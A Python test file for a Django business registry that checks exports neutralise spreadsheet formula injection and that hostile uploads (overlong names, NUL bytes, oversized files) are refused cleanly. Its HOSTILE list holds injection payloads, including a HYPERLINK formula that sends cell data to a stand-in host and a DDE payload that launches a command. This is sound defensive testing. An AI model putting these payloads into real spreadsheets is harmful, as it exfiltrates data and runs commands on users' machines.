"""Hostile names and files through the web (issue 18): no export writes a live formula (item 2), an
upload of a hostile file is refused with its reasons and leaves no file behind when it fails (items 1,
6), and a name too long or with a NUL byte is a cell error at preview, on SQLite and PostgreSQL alike
(item 8)."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile

from gaoxin.io import safe
from gaoxin.io.problems import VALUE_MAX
from gaoxin.web.consent import services as consent
from gaoxin.web.registry.models import Enterprise, ImportBatch
from gaoxin.web.registry.services import imports
from gaoxin.web.registry.services.imports import problem_dicts as _problems
from tests.io.helpers import code, csv_text

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&B2,"点我")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]


def _formulas(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [
            f
            for n in z.namelist()
            if n.startswith("xl/worksheets/")
            for f in re.findall(r"<f>(.*?)</f>", z.read(n).decode())
        ]


def _dangerous(text: str) -> list[str]:
    import csv

    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row if safe.is_dangerous(c)]


@pytest.fixture
def hostile(platform):
    """Every firm of zone A renamed to a formula (the register accepts any text as a name)."""
    for i, e in enumerate(Enterprise.objects.filter(zone=platform.zone_a).order_by("pk")):
        e.name = f"{HOSTILE[i % len(HOSTILE)]}{i}"
        e.save(update_fields=["name"])
    return platform


def test_no_web_export_carries_a_live_formula(hostile):
    p = hostile
    admin, bank = p.client("zone_admin"), p.client("bank")
    workbooks = {
        "ranking": admin.get("/credit/ranking/export.xlsx", {"run": p.run_a.pk}),
        "run": admin.get(f"/credit/runs/{p.run_a.pk}/export.xlsx"),
        "list": admin.get(f"/credit/lists/{p.published.pk}/export.xlsx"),
    }
    for what, r in workbooks.items():
        assert r.status_code == 200, what
        assert _formulas(r.content) == [], what
    texts = {
        "list csv": admin.get(f"/credit/lists/{p.published.pk}/export.csv"),
        "list api": bank.get(f"/api/lists/{p.published.pk}/csv"),
    }
    firm = p.users["enterprise"]
    consent.grant(firm, p.bank_a, dt.date.today() + dt.timedelta(days=30), "授信审查")
    texts["consent profile"] = bank.get(f"/consent/bank/{firm.enterprise_id}/export.csv")
    for what, r in texts.items():
        assert r.status_code == 200, what
        text = r.content.decode("utf-8-sig")
        assert any(h[:5] in text for h in HOSTILE), what  # the names are there, neutralised
        assert _dangerous(text) == [], what


def _upload(platform, name: str, content: bytes):
    c = platform.client("zone_admin")
    return c.post(
        "/registry/imports/new/",
        {"file": SimpleUploadedFile(name, content), "department": "科技局"},
    )


def _imports_dir() -> Path:
    return Path(django_settings.MEDIA_ROOT) / imports.IMPORT_DIR


def test_an_upload_of_a_long_name_or_a_nul_byte_is_refused_at_preview(platform):
    zone = platform.zone_a.code
    rows = [
        ["uscc", "name", "zone"],
        [code(901), "甲" * 5_000, zone],
        [code(902), "长沙\x00零字节公司", zone],
        [code(903), "乙公司", zone],
    ]
    before = Enterprise.objects.count()
    _upload(platform, "names.csv", csv_text(rows).encode("utf-8"))
    batch = ImportBatch.objects.order_by("-pk").first()
    assert batch.status == ImportBatch.Status.REFUSED
    got = sorted((p["row"], p["column"], p["reason"]) for p in _problems(batch) if p["row"])
    assert got == [
        (2, "name", "过长：最多 200 个字符"),
        (3, "name", "含有控制字符（如零字节、换行），请删除"),
    ]
    assert all(len(p["value"] or "") <= VALUE_MAX + 30 for p in _problems(batch))
    # the report quotes a NUL visibly: PostgreSQL refuses \u0000 in the problems' JSON column
    assert [p["value"] for p in _problems(batch) if p["row"] == 3] == ["长沙␀零字节公司"]
    assert Enterprise.objects.count() == before  # nothing reached the database (no DataError at apply)


def test_long_names_and_control_characters_are_cell_errors_in_an_xlsx_upload(platform, tmp_path):
    from tests.io.helpers import write_xlsx

    zone = platform.zone_a.code
    rows = [["uscc", "name", "zone"], [code(911), "甲" * 201, zone], [code(912), "长沙\x07公司", zone]]
    path = write_xlsx(tmp_path / "names.xlsx", {"企业": rows})
    before = Enterprise.objects.count()
    _upload(platform, "names.xlsx", path.read_bytes())
    batch = ImportBatch.objects.order_by("-pk").first()
    assert batch.status == ImportBatch.Status.REFUSED
    got = sorted((p["row"], p["column"], p["reason"]) for p in _problems(batch) if p["row"])
    assert got == [
        (2, "name", "过长：最多 200 个字符"),
        (3, "name", "含有控制字符（如零字节、换行），请删除"),
    ]
    assert all(len(p["value"] or "") <= VALUE_MAX + 30 for p in _problems(batch))
    assert Enterprise.objects.count() == before  # nothing reached the database (no DataError at apply)


def test_a_million_problem_upload_is_refused_with_a_bounded_report(platform, settings):
    from gaoxin.io import limits

    zone = platform.zone_a.code
    rows = [["uscc", "name", "zone"], *[[f"bad{i}", "甲", zone] for i in range(3_000)]]
    old = limits.current()
    limits.configure(max_problems=500)
    try:
        _upload(platform, "bad.csv", csv_text(rows).encode())
    finally:
        limits.configure(old)
    batch = ImportBatch.objects.order_by("-pk").first()
    assert batch.status == ImportBatch.Status.REFUSED
    assert len(_problems(batch)) == 501
    assert sum("2,500" in p["reason"] and "max_problems" in p["reason"] for p in _problems(batch)) == 1
    # the refused file is not kept: the batch holds the problems, the disk holds nothing of it
    assert batch.stored_file == "" and not any(p.is_file() for p in _imports_dir().rglob("bad.csv"))


def test_a_file_the_reader_chokes_on_leaves_no_orphan_behind(platform, monkeypatch):
    def boom(paths, limits=None):
        raise MemoryError("the reader ran out of memory")

    monkeypatch.setattr(imports, "read_inputs", boom)
    before = sorted(_imports_dir().rglob("*")) if _imports_dir().exists() else []
    stored = imports.store_upload(SimpleUploadedFile("x.csv", b"uscc,name\n"), platform.zone_a)
    with pytest.raises(MemoryError):
        imports.prepare(stored, zone=platform.zone_a, user=platform.users["zone_admin"])
    after = sorted(_imports_dir().rglob("*"))
    assert not stored.directory.exists()
    assert [p for p in after if p not in before and p.is_file()] == []


def test_an_upload_over_the_size_limit_is_refused_before_it_is_stored(platform):
    from gaoxin.io import limits

    old = limits.current()
    limits.configure(max_file_bytes=1000)
    try:
        r = _upload(platform, "big.csv", b"uscc,name,zone\n" + b"x,y,z\n" * 400)
    finally:
        limits.configure(old)
    assert r.status_code == 413 and "max_file_bytes" in r.content.decode()
    assert not any(p.is_file() for p in _imports_dir().rglob("big.csv")) if _imports_dir().exists() else True
    assert not ImportBatch.objects.filter(file_name="big.csv").exists()
